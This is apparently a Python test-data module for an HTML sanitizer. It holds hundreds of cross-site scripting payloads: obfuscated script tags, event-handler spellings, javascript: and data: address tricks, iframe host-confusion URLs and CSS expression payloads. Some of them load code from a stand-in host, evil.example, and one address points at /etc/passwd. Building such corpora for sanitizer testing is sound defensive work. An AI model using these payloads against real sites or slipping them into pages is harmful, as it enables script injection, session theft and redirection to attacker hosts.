"""Markup that wants to run, or to take a page over: classes of attacks times where they stand times how they hide."""

import html
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import cycle


@dataclass(frozen=True, slots=True)
class Payload:
    """An attack, which calls `alert` if it succeeds."""

    kind: str
    html: str


# --- scripts ---------------------------------------------------------------------------------------------------------

SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script >alert(1)</script >",
    "<script\n>alert(1)</script\n>",
    "<script\t>alert(1)</script\t>",
    "<script\x0c>alert(1)</script\x0c>",
    "<script/>alert(1)</script>",
    "<script/x>alert(1)</script/x>",
    '<script x="</p>">alert(1)</script>',
    "<script x='>'>alert(1)</script>",
    "<script>alert(1)</script x>",
    "<script>alert(1)//",
    "<script>alert(1)<!-- </script>",
    "<script><!--\nalert(1)\n--></script>",
    "<script><!--<script></script>alert(1)--></script>",
    "<script>/*<!--*/alert(1)/*-->*/</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script<script>>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<</p>script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script\x00>alert(1)</script>",
    "<script\x0b>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "< script>alert(1)</script>",
    "<script type=text/javascript>alert(1)</script>",
    "<script type=module>alert(1)</script>",
    "<script type=text/vbscript>alert(1)</script>",
    "<script language=javascript1.5>alert(1)</script>",
    "<script async defer>alert(1)</script>",
    "<script nonce=x integrity=y>alert(1)</script>",
    "<script src=data:,alert(1)></script>",
    "<script src='data:text/javascript,alert(1)'></script>",
    "<script src='data:text/javascript;base64,YWxlcnQoMSk='></script>",
    "<script type=module src='data:text/javascript,alert(1)'></script>",
    "<script src=//127.0.0.1:1/x.js onerror=alert(1)></script>",
    "<script src=x: onerror=alert(1)></script>",
    "<script>import('data:text/javascript,alert(1)')</script>",
    "<script>setTimeout('alert(1)')</script>",
    "<script>setInterval('alert(1);clearInterval(1)',1)</script>",
    "<script>window['al'+'ert'](1)</script>",
    "<script>eval('\\x61lert(1)')</script>",
    "<script>Function('ale'+'rt(1)')()</script>",
    "<script>\\u0061lert(1)</script>",
    "<script>alert`1`</script>",
    "<script>[1].map(alert)</script>",
    "<script>top.alert(1)</script>",
    "<script>self.confirm(1)</script>",
    "<script>prompt(1)</script>",
    "<script>print()</script>",
    "<script>throw onerror=alert,1</script>",
    "<script>Promise.resolve(1).then(alert)</script>",
    "<script>location='javascript:alert(1)'</script>",
    "<script>document.write('<img src=x: onerror=alert(1)>')</script>",
    "<script>queueMicrotask(()=>{alert(1)})</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>al&#101;rt(1)</script></svg>",
    "<svg><script>&#97;lert&lpar;1&rpar;</script></svg>",
    "<svg><script><![CDATA[alert(1)]]></script></svg>",
    "<svg><script>/*<b>*/alert(1)/*</b>*/</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><script xlink:href=data:,alert(1) /></svg>",
    "<svg><script href='data:text/javascript;base64,YWxlcnQoMSk='></script></svg>",
    "<svg><script>alert(1)",
    "<svg><SCRIPT>alert(1)</SCRIPT>",
    "<math><script>alert(1)</script></math>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<script type=speculationrules>{}</script><script>alert(1)</script>",
    "<script type=importmap>{}</script><script>alert(1)</script>",
    "<script for=window event=onload>alert(1)</script>",
    "<script>alert(1)</script\x00>",
    "<%script>alert(1)</%script><script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<ſcript>alert(1)</ſcript>",
    "<scrİpt>alert(1)</scrİpt>",
)

# --- event handlers --------------------------------------------------------------------------------------------------

#: Names, apart by spaces.
ELEMENTS = (
    "a abbr acronym address applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote br "
    "button canvas center cite code command content data datalist dd del details dfn dialog dir div dl dt element em "
    "embed fieldset figcaption figure font footer form h1 h2 h3 h4 h5 h6 header hgroup hr i iframe image img input ins "
    "isindex kbd keygen label legend li link listing main map mark marquee menu menuitem meter multicol nav nextid "
    "nobr noscript object ol optgroup option output p picture portal pre progress q rb rp rt rtc ruby s samp search "
    "section select shadow slot small source spacer span strike strong sub summary sup svg table template textarea "
    "time track tt u ul var video wbr xmp math x-custom xss fencedframe selectedcontent"
)

SVG_ELEMENTS = (
    "a animate animateMotion animateTransform circle clipPath defs desc ellipse feImage filter foreignObject g image "
    "line linearGradient marker mask metadata mpath path pattern polygon rect set stop style switch symbol text "
    "textPath title tspan use view"
)

MATH_ELEMENTS = "annotation annotation-xml maction mfrac mglyph mi mn mo mrow ms mstyle msup mtable mtext semantics"

EVENTS = (
    "abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut "
    "beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload beforexrselect blur cancel canplay "
    "canplaythrough change click close command contentvisibilityautostatechange contextlost contextmenu copy cuechange "
    "cut dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange emptied ended error focus "
    "focusin focusout formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup "
    "languagechange load loadeddata loadedmetadata loadstart lostpointercapture message mousedown mouseenter "
    "mouseleave mousemove mouseout mouseover mouseup mousewheel offline online pagehide pageshow paste pause play "
    "playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate "
    "pointerup popstate progress ratechange reset resize scroll scrollend scrollsnapchange search "
    "securitypolicyviolation seeked seeking select selectionchange selectstart slotchange stalled storage submit "
    "suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun "
    "transitionstart unload volumechange waiting webkitanimationend webkitanimationstart webkittransitionend wheel "
    "begin end repeat start finish bounce propertychange readystatechange"
)

#: `{}` is an element's name: spellings of one attribute that browsers take for a handler.
SPELLINGS = (
    "<{} onclick=alert(1)>x",
    "<{} onclick='alert(1)'>x",
    '<{} onclick="alert(1)">x',
    "<{} onclick=`alert(1)`>x",
    "<{}/onclick=alert(1)>x",
    "<{}//onclick=alert(1)>x",
    "<{}\nonclick\n=\nalert(1)\n>x",
    "<{}\tonclick\t=\talert(1)>x",
    "<{}\x0conclick\x0c=\x0calert(1)>x",
    "<{}\ronclick=alert(1)>x",
    "<{}\x0bonclick=alert(1)>x",
    "<{} \x0bonclick=alert(1)>x",
    "<{} \x00onclick=alert(1)>x",
    "<{} on\x00click=alert(1)>x",
    "<{}\xa0onclick=alert(1)>x",
    "<{} ONCLICK=alert(1)>x",
    "<{} oNcLiCk=alert(1)>x",
    "<{} onclick=&#97;lert(1)>x",
    "<{} onclick=&#x61lert&lpar;1)>x",
    "<{} onclick=&#0000097lert&#40;1&#41;>x",
    '<{} onclick="a&Tab;lert(1);al&#101;rt(1)">x',
    "<{} onclick=alert&#x28;1&#x29>x",
    "<{} x='>' onclick=alert(1)>x",
    '<{} x=">"onclick=alert(1)>x',
    "<{} x=''onclick=alert(1)>x",
    "<{} x=\"'\"onclick=alert(1)//'>x",
    "<{} onclick=alert(1) onclick=2>x",
    "<{} title='x' title='y' onclick=alert(1)>x",
    "<{} =onclick=alert(1) onclick=alert(1)>x",
    '<{} "onclick=alert(1) onclick=alert(1)>x',
    "<{} '=x onclick=alert(1)>x",
    "<{} <b onclick=alert(1)>x",
    "<{} / / onclick=alert(1)>x",
    "<{} x=/onclick=alert(1)/ onclick=alert(1)>x",
    "<{} onclick=alert(1)",
    "<{} onclick=alert(1) <",
    '<{} onclick="alert(1)',
    "<{} onclick=alert(1)//",
    "<{} onclick='alert(1)'x>x",
    "<{} onclick=alert&#40/**/1)>x",
    "<{} onclick=alert`1`>x",
    "<{} onclick=window['al'+'ert'](1)>x",
    "<{} onclick=setTimeout('al'+'ert(1)')>x",
    "<{} onclick=self?.[atob`YWxlcnQ`](1)>x",
    "<{} onclick=eval('\\x61lert(1)')>x",
    '<{} onclick="import(&quot;data:text/javascript,alert(1)&quot;)">x',
    "<{} onclick=\\u0061lert(1)>x",
    "<{}<b onclick=alert(1)>x",
    "</{}/onclick=alert(1)>x</{} onclick=alert(1)><b onclick=alert(1)>",
    "<!{} onclick=alert(1)><{} onclick=alert(1)>x",
    "<?{} onclick=alert(1)?><{} onclick=alert(1)>x",
)

SPELLED_ELEMENTS = ("p", "a", "img", "svg")

BROKEN = (
    "x", "x:", "'x'", '""', "#", "/", "//", "//127.0.0.1:1/x.png", "http://127.0.0.1:1", "https://x.invalid/x",
    "data:", "data:image/png,x", "data:image/svg+xml,<svg/>", "about:blank", "javascript:1", "ftp://x", "blob:x",
    "&#0;", "http://[", "x onerror=alert(1) x", "`x`",
)  # fmt: skip

#: `{}` is a broken address.
LOADERS = (
    "<img src={} onerror=alert(1)>",
    "<image src={} onerror=alert(1)>",
    "<img src={} srcset={} onerror=alert(1)>",
    "<video src={} onerror=alert(1)></video>",
    "<audio src={} onerror=alert(1)></audio>",
    "<video><source src={} onerror=alert(1)></video>",
    "<input type=image src={} onerror=alert(1)>",
    "<link rel=stylesheet href={} onerror=alert(1)>",
    "<svg><image href={} onerror=alert(1) /></svg>",
    "<picture><source srcset={}><img src={} onerror=alert(1)></picture>",
)

FIRING = (
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg\nonload=alert(1)\n>",
    "<svg\x0conload=alert(1)>",
    "<svg\x0bonload=alert(1)>",
    "<svg><svg onload=alert(1)></svg></svg>",
    "<svg><g onload=alert(1)></g></svg>",
    "<svg><image href=data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw== onload=alert(1)>",
    "<svg><style onload=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributeName=x>",
    "<svg><animateMotion onbegin=alert(1) dur=1s>",
    "<svg><animate onend=alert(1) attributeName=x dur=1ms>",
    "<svg><animate onrepeat=alert(1) attributeName=x dur=1ms repeatCount=3>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<body onresize=alert(1)>",
    "<body onhashchange=alert(1)><a href=#x>x</a>",
    "<html onclick=alert(1)>",
    "<body onmessage=alert(1)><script>postMessage(1)</script>",
    "<frameset onload=alert(1)><frame></frameset>",
    "<details open ontoggle=alert(1)>x</details>",
    "<details/open/ontoggle=alert(1)>",
    "<details ontoggle=alert(1)><summary>x</summary></details>",
    "<details open><summary onclick=alert(1)>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<button autofocus onfocus=alert(1)>x</button>",
    "<p tabindex=0 autofocus onfocus=alert(1)>x",
    "<x-y contenteditable autofocus onfocus=alert(1)>x</x-y>",
    "<a href=# autofocus onfocusin=alert(1)>x</a>",
    "<p id=x tabindex=1 onfocus=alert(1)>x</p><a href=#x>y</a>",
    "<keygen autofocus onfocus=alert(1)>",
    "<input onblur=alert(1) autofocus><input autofocus>",
    "<iframe onload=alert(1)></iframe>",
    "<iframe src=x: onload=alert(1)></iframe>",
    "<object onerror=alert(1) data=x:></object>",
    "<object onload=alert(1) data=data:text/html,x></object>",
    "<embed onload=alert(1) src=data:text/html,x>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>",
    "<marquee behavior=alternate onbounce=alert(1)>x</marquee>",
    "<style>@keyframes k{}</style><p style='animation:k 1s' onanimationstart=alert(1)>x</p>",
    "<style>@keyframes k{}</style><p style='animation:k 1ms' onanimationend=alert(1)>x</p>",
    "<style>@keyframes k{}</style><p style='animation:k 1ms 3' onanimationiteration=alert(1)>x</p>",
    "<style>@keyframes k{}</style><p style='animation:k 1ms' onwebkitanimationend=alert(1)>x</p>",
    "<style>p{transition:color 1ms}p:not(:hover){color:red}</style><p ontransitionend=alert(1)>x</p>",
    "<style>p{content-visibility:auto}</style><p oncontentvisibilityautostatechange=alert(1)>x</p>",
    "<style onload=alert(1)>p{}</style>",
    "<style onerror=alert(1)>@import'x:'</style>",
    "<link rel=stylesheet href=data:text/css, onload=alert(1)>",
    "<link rel=preload as=script href=x: onerror=alert(1)>",
    "<link rel=modulepreload href=x: onerror=alert(1)>",
    "<script onerror=alert(1) src=x:></script>",
    "<script onload=alert(1) src=data:,></script>",
    "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw== onload=alert(1)>",
    "<img onerror=alert(1) src>",
    "<img/src/onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    '<img src=x onerror="alert(1)',
    "<img\x0bsrc=x onerror=alert(1)>",
    "<img\x0bonerror=alert(1) src=x>",
    '<img """><script>alert(1)</script>">',
    "<img src=`x`onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img alt='<x' src=x: onerror=alert(1) '>",
    "<img loading=eager src=x: onerror=alert(1)>",
    "<img crossorigin src=//127.0.0.1:1/ onerror=alert(1)>",
    "<img srcset=x: onerror=alert(1)>",
    "<img srcset=',,,' src=x: onerror=alert(1)>",
    "<audio autoplay src=x: onerror=alert(1)>",
    "<audio onloadstart=alert(1) src=x:>",
    "<audio src=data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEAQB8AAEAfAAABAAgAZGF0YQ== oncanplay=alert(1)>",
    "<video onloadstart=alert(1)><source src=x:></video>",
    "<video poster=x: src=x: onerror=alert(1)>",
    "<video controls><source onerror=alert(1) src=x:><track src=x:></video>",
    "<video><track default kind=captions src=x: onerror=alert(1)></video>",
    "<input type=image src onerror=alert(1)>",
    "<input oninput=alert(1) value=x>",
    "<input type=search onsearch=alert(1)>",
    "<form oninvalid=alert(1)><input required oninvalid=alert(1)><input type=submit></form>",
    "<form onsubmit=alert(1)><input type=submit></form>",
    "<form onformdata=alert(1)><button>x</button></form>",
    "<form onreset=alert(1)><input type=reset></form>",
    "<form><button form=f></button></form><form id=f onsubmit=alert(1)></form>",
    "<label for=b>x</label><button id=b onclick=alert(1)>x</button>",
    "<p onscroll=alert(1) style=overflow:scroll;height:9px>x<br><br><br>x<input autofocus>",
    "<p accesskey=x onclick=alert(1)>x</p>",
    "<p contenteditable oncut=alert(1) onpaste=alert(1)>x</p>",
    "<p draggable=true ondragstart=alert(1)>x</p>",
    "<canvas oncontextlost=alert(1)></canvas>",
    "<slot onslotchange=alert(1)>x</slot>",
    "<bgsound src=x: onerror=alert(1)>",
    "<applet code=x onerror=alert(1)></applet>",
    "<isindex type=image src=x: onerror=alert(1)>",
    "<xss onpointerrawupdate=alert(1) style=display:block>x</xss>",
    "<a onbeforecopy=alert(1)>x</a>",
)

# --- addresses -------------------------------------------------------------------------------------------------------

#: Spellings of an address that runs; as they would stand in a double-quoted attribute.
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "\n\r\x0cjavascript:alert(1)",
    "\x01javascript:alert(1)",
    "\x1fjavascript:alert(1)",
    "\x0b\x0ejavascript:alert(1)",
    "\x00javascript:alert(1)",
    "\x7fjavascript:alert(1)",
    "\xa0javascript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "\u2028javascript:alert(1)",
    "\u3000javascript:alert(1)",
    "\u202ejavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "java\x00script:alert(1)",
    "java\x0bscript:alert(1)",
    "java\u200bscript:alert(1)",
    "java\xadscript:alert(1)",
    "j\na\nv\na\ns\nc\nr\ni\np\nt\n:\nalert(1)",
    "javascript\t:alert(1)",
    "javascript :alert(1)",
    "javascript\x00:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java&#9;script:alert(1)",
    "java&#x0A;script:alert(1)",
    "java&#13script:alert(1)",
    "java&#0000000010;script:alert(1)",
    "&#1;javascript:alert(1)",
    "&#14; javascript:alert(1)",
    "&#x1F;&#32;javascript:alert(1)",
    "&#0;javascript:alert(1)",
    "&nbsp;javascript:alert(1)",
    "&ZeroWidthSpace;javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "javascript&#0058alert(1)",
    "javascript&COLON;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)",
    "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58&#97lert(1)",
    "&amp;#106;avascript:alert(1)",
    "&amp;Tab;javascript:alert(1)",
    "javascript&amp;colon;alert(1)",
    "javascript:alert&lpar;1&rpar;",
    "javascript:alert&DiacriticalGrave;1&grave;",
    "javascript:&#97;lert(1)",
    "javascript:%61lert(1)",
    "javascript:%61%6c%65%72%74%28%31%29",
    "javascript:\\u0061lert(1)",
    "javascript://%0aalert(1)",
    "javascript://example.org/%0Aalert(1)",
    "javascript://example.org/%0d%0aalert(1)//https://example.org/",
    "javascript:/*https://example.org/*/alert(1)",
    "javascript:https://example.org/%0aalert(1)",
    "javascript:void(alert(1))",
    "javascript:window['al'+'ert'](1)",
    "javascript:setTimeout('alert(1)')",
    "javascript:'<script>alert(1)</script>'",
    "javascript:import('data:text/javascript,alert(1)')",
    "javascript:javascript:alert(1)",
    "jav%61script:alert(1)",
    "%6aavascript:alert(1)",
    "java%0ascript:alert(1)",
    "javascript%3Aalert(1)",
    "javascript：alert(1)",
    "ｊavascript:alert(1)",
    "javaſcript:alert(1)",
    "javascrİpt:alert(1)",
    "jаvascript:alert(1)",
    "/javascript:alert(1)",
    "./javascript:alert(1)",
    "//javascript:alert(1)",
    "\\javascript:alert(1)",
    "?javascript:alert(1)",
    "#javascript:alert(1)",
    "http:javascript:alert(1)",
    "https://javascript:alert(1)@example.org",
    'http://x" onclick="alert(1)',
    "https://example.org/&quot; onclick=&quot;alert(1)",
    "https://example.org/'onclick='alert(1)",
    "https://example.org/`onclick=`alert(1)",
    "https://example.org/><script>alert(1)</script>",
    "https://example.org/&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "mailto:a@example.org?body=<script>alert(1)</script>",
    "mailto:javascript:alert(1)@example.org",
    'mailto:x" onclick="alert(1)@example.org',
    "vbscript:alert(1)",
    "VBSCRIPT:msgbox(1)",
    "vbs\tcript:alert(1)",
    "livescript:alert(1)",
    "mocha:alert(1)",
    "jscript:alert(1)",
    "javascript1.5:alert(1)",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "feed:data:text/html,<script>alert(1)</script>",
    "jar:javascript:alert(1)!/",
    "blob:javascript:alert(1)",
    "filesystem:javascript:alert(1)",
    "x-javascript:alert(1)",
    "about:blank#<script>alert(1)</script>",
    "file:///etc/passwd",
    "res://x/y",
    "ms-its:x",
    "intent://x#Intent;S.url=javascript:alert(1);end",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html;charset=utf-7,+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "DATA:text/html,<img src=x: onerror=alert(1)>",
    " data:text/html,<svg onload=alert(1)>",
    "da\nta:text/html,<svg onload=alert(1)>",
    "data&colon;text/html,<svg onload=alert(1)>",
    "data:,<script>alert(1)</script>",
    "data:text/html;,<body onload=alert(1)>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "data:text/xml,<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "data:text/html,%3Cscript%3Ealert(1)%3C/script%3E",
    "data:text/javascript,alert(1)",
    "data:text/css,*{color:red}",
)

#: A few of each sort, for the many places where an address can stand.
COMMON_ADDRESSES = (
    "javascript:alert(1)",
    " JaVa&Tab;sCript&colon;alert(1)",
    "\x01java\nscript:alert(1)",
    "&#106;avascript://example.org/%0aalert(1)",
    "vbscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
)

#: `{}` is the address.
PLACES = (
    '<a href="{}">x</a>',
    '<a href="#" href="{}">x</a>',
    '<a target=_blank href="{}">x</a>',
    '<a rel=opener target=x href="{}">x</a>',
    '<a download href="{}">x</a>',
    '<a href="https://example.org/" ping="{}">x</a>',
    '<map name=m><area shape=default href="{}"></map><img usemap=#m src=x:>',
    '<img src="{}">',
    '<img src=x: data-src="{}">',
    '<img data-original="{}" src="https://example.org/x.png">',
    '<img _src="{}">',
    '<img srcset="{} 1x, x: 2x">',
    '<img lowsrc="{}" dynsrc="{}" longdesc="{}" src=x:>',
    '<link rel=preload as=image imagesrcset="{} 1x" href=x:>',
    '<picture><source srcset="{}"><img src=x:></picture>',
    '<video src="{}" poster="{}"></video>',
    '<video><source src="{}"><track default src="{}"></video>',
    '<audio src="{}"></audio>',
    '<iframe src="{}"></iframe>',
    '<iframe loading=eager sandbox="allow-scripts allow-same-origin" src="{}"></iframe>',
    '<frameset><frame src="{}"></frameset>',
    '<object data="{}"></object>',
    '<object type=text/html data="{}"></object>',
    '<object><param name=src value="{}"><param name=movie value="{}"></object>',
    '<embed src="{}">',
    '<embed type=image/svg+xml src="{}">',
    '<applet code="{}" codebase="{}" archive="{}"></applet>',
    '<form action="{}"><input type=submit></form>',
    '<form method=post action="{}"><button>x</button></form>',
    '<form><button formaction="{}">x</button></form>',
    '<form><input type=submit formaction="{}"></form>',
    '<form><input type=image src=x: formaction="{}"></form>',
    '<form id=f></form><button form=f formaction="{}">x</button>',
    '<isindex action="{}" prompt=x>',
    '<input type=image src="{}">',
    '<body background="{}">',
    '<table background="{}"><td background="{}">x</table>',
    '<bgsound src="{}">',
    '<blockquote cite="{}">x</blockquote>',
    '<q cite="{}">x</q><del cite="{}">x</del><ins cite="{}">x</ins>',
    '<link rel=stylesheet href="{}">',
    '<link rel=import href="{}">',
    '<link rel=prefetch href="{}"><link rel=prerender href="{}">',
    '<link rel=icon href="{}">',
    '<link rel=manifest href="{}">',
    '<base href="{}"><a href=x>x</a>',
    '<base href="{}//"><script src=x></script><a href=#>x</a>',
    '<meta http-equiv=refresh content="0;url={}">',
    '<meta http-equiv=refresh content="0, {}">',
    '<meta http-equiv=link content="<{}>; rel=stylesheet">',
    '<script src="{}"></script>',
    '<svg><a href="{}"><text y=9>x</text></a></svg>',
    '<svg><a xlink:href="{}"><rect width=9 height=9 /></a></svg>',
    '<svg><use href="{}#x" /></svg>',
    '<svg><use xlink:href="{}" /></svg>',
    '<svg><image href="{}" /></svg>',
    '<svg><image xlink:href="{}" /></svg>',
    '<svg><feImage href="{}" /></svg>',
    '<svg><script href="{}"></script></svg>',
    '<svg><a><animate attributeName=href values="{}" /><text y=9>x</text></a></svg>',
    '<svg><a href=#><set attributeName=href to="{}" /><text y=9>x</text></a></svg>',
    '<svg><a><set attributeName=xlink:href to="{}" /><text y=9>x</text></a></svg>',
    '<svg><a id=a /><animate href=#a attributeName=href from="{}" to="{}" fill=freeze /></svg>',
    '<math href="{}">x</math>',
    '<math xlink:href="{}" xlink:type=simple>x</math>',
    '<math><mrow href="{}"><mi>x</mi></mrow></math>',
    '<math><maction actiontype="statusline#{}" xlink:href="{}">x</maction></math>',
    '<portal src="{}"></portal>',
    '<fencedframe src="{}"></fencedframe>',
    '<p style="background:url({})">x</p>',
    '<p xlink:href="{}" href="{}" src="{}">x</p>',
    '<html manifest="{}"><head profile="{}">',
    '<button popovertarget=x formaction="{}">x</button>',
    '<time datetime="{}">x</time>',
    '<th scope="{}" colspan="{}">x</th>',
    '<ol start="{}"><li value="{}">x</ol>',
    '<img width="{}" height="{}" src="https://example.org/x.png">',
    '<iframe sandbox="{}" loading="{}" src="https://www.youtube.com/embed/1"></iframe>',
)

# --- frames, styles and whatever else a page can be made to load -----------------------------------------------------

FRAMES = (
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<iframe srcdoc='&#60;script&#62;alert(1)&#60;/script&#62;'></iframe>",
    "<iframe srcdoc='<img src=x: onerror=parent.alert(1)>'></iframe>",
    "<iframe srcdoc='<svg onload=alert(1)>'></iframe>",
    "<iframe srcdoc=\"<iframe srcdoc='<svg onload=alert(1)>'></iframe>\"></iframe>",
    "<iframe srcdoc=\"<a href='javascript:parent.alert(1)'>x</a><script>document.links[0].click()</script>\"></iframe>",
    "<iframe sandbox=allow-scripts srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=https://www.youtube.com/embed/1 srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=https://www.youtube.com/embed/1 onload=alert(1)></iframe>",
    "<iframe src=https://www.youtube.com@evil.example/embed/1></iframe>",
    "<iframe src=https://www.youtube.com.evil.example/embed/1></iframe>",
    "<iframe src=https://evil.example/www.youtube.com></iframe>",
    "<iframe src=https://www.youtube.com:443@evil.example></iframe>",
    "<iframe src=https://evil.example\\@www.youtube.com/></iframe>",
    "<iframe src=https://evil.example\\.www.youtube.com/></iframe>",
    "<iframe src='https://evil.example#@www.youtube.com/'></iframe>",
    "<iframe src='https://evil.example?@www.youtube.com/'></iframe>",
    "<iframe src=//evil.example></iframe>",
    "<iframe src=///evil.example></iframe>",
    "<iframe src=\\\\evil.example></iframe>",
    "<iframe src=https:/evil.example></iframe>",
    "<iframe src=https:evil.example></iframe>",
    "<iframe src='https://www.youtube.com\t.evil.example/'></iframe>",
    "<iframe src='https://www.youtube.com\n@evil.example/'></iframe>",
    "<iframe src='https://www.youtube.com%00.evil.example/'></iframe>",
    "<iframe src='https://www.youtube.com%2eevil.example/'></iframe>",
    "<iframe src='https://www.youtube.com。evil.example/'></iframe>",
    "<iframe src='https://www。youtube。com/'></iframe>",
    "<iframe src=http://www.youtube.com/embed/1></iframe>",
    "<iframe src='https://www.youtube.com/embed/1'><script>alert(1)</script></iframe>",
    "<iframe src='https://www.youtube.com/embed/1'></iframe><script>alert(1)</script></iframe>",
    "<iframe src='https://www.youtube.com/embed/1'><!--</iframe><img src=x: onerror=alert(1)>--></iframe>",
    "<iframe src='https://www.youtube.com/embed/1' sandbox='allow-top-navigation' name=x id=x></iframe>",
    "<iframe><p title='</iframe><img src=x: onerror=alert(1)>'></iframe>",
    "<iframe src=about:blank></iframe><script>frames[0].alert(1);alert(1)</script>",
    "<object data='data:text/html,<script>alert(1)</script>'><img src=x: onerror=alert(1)></object>",
    "<object><img src=x: onerror=alert(1)></object>",
    "<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf allowscriptaccess=always>",
    "<embed code=javascript:alert(1) type=text/html>",
    "<applet code=x><img src=x: onerror=alert(1)></applet>",
    "<frameset rows=*><frame src=javascript:alert(1)></frameset>",
    "<frameset onload=alert(1)>",
    "<noframes><img src=x: onerror=alert(1)></noframes>",
    "<noembed><img src=x: onerror=alert(1)></noembed>",
    "<portal src=https://evil.example onload=alert(1)></portal>",
    "<meta http-equiv=refresh content=0>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<META HTTP-EQUIV=Refresh CONTENT='0; URL=\"data:text/html,<script>alert(1)</script>\"'>",
    "<meta http-equiv=set-cookie content=x=y>",
    "<meta http-equiv=content-security-policy content=\"script-src 'none'\">",
    "<meta http-equiv=content-type content='text/html; charset=utf-7'>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<meta charset=iso-2022-jp><p title='\x1b(J'>x</p>",
    "<meta name=referrer content=unsafe-url>",
    "<base target=_top><a href=javascript:alert(1)>x</a>",
    "<base href=//evil.example/><img src=x.png>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href='data:text/html,<script>alert(1)</script>'>",
    "<link rel='alternate stylesheet' href='data:text/css,*{x:y}'>",
    "<link rel=preload as=fetch href=//evil.example>",
    "<link rel=dns-prefetch href=//evil.example><link rel=preconnect href=//evil.example>",
    "<link/rel=stylesheet/href=x: onerror=alert(1)>",
    "<?xml-stylesheet href='javascript:alert(1)'?><p>x</p>",
    "<xml src=javascript:alert(1) id=x><x><c><![CDATA[<img src=x: onerror=alert(1)>]]></c></x></xml>",
    "<xml><i><b><img src=x: onerror=alert(1)></b></i></xml><span datasrc=#x datafld=c dataformatas=html></span>",
    "<img usemap=#m src=x:><map name=m><area href=javascript:alert(1) onclick=alert(1)></map>",
)

STYLES = (
    "expression(alert(1))",
    "width:expression(alert(1))",
    "width:exp/**/ression(alert(1))",
    "width:e\\78pression(alert(1))",
    "width:\\65xpression(alert(1))",
    "w\\69dth:expression(alert(1))",
    "background:url(javascript:alert(1))",
    "background:url('javascript:alert(1)')",
    "background:url(\\6a avascript:alert(1))",
    "background:url(ja\\0avascript:alert(1))",
    "background-image:url(data:image/svg+xml,<svg/onload=alert(1)>)",
    "list-style-image:url(javascript:alert(1))",
    "behavior:url(#default#time2)",
    "behavior:url(//evil.example/x.htc)",
    "-moz-binding:url(data:text/xml,x#x)",
    "-moz-binding:url(//evil.example/x.xml#x)",
    "-o-link:'javascript:alert(1)';-o-link-source:current",
    "position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999",
    "content:attr(x)",
